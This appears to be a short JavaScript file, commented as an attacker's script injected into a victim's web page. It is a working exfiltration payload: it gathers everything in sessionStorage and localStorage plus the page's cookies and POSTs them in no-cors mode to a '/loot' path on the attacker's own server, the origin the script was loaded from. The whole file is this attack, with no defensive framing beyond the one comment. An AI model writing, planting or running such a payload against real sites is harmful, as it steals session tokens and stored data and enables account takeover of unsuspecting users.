// A script of the attacker's in the victim's page: it reads all that a script can read, and sends it to him.
{
  const own = new URL(document.currentScript.src);
  const found = {
    storage: { ...sessionStorage, ...localStorage },
    cookies: document.cookie,
  };
  fetch(`${own.origin}/loot${own.search}`, { method: "POST", mode: "no-cors", body: JSON.stringify(found) });
}
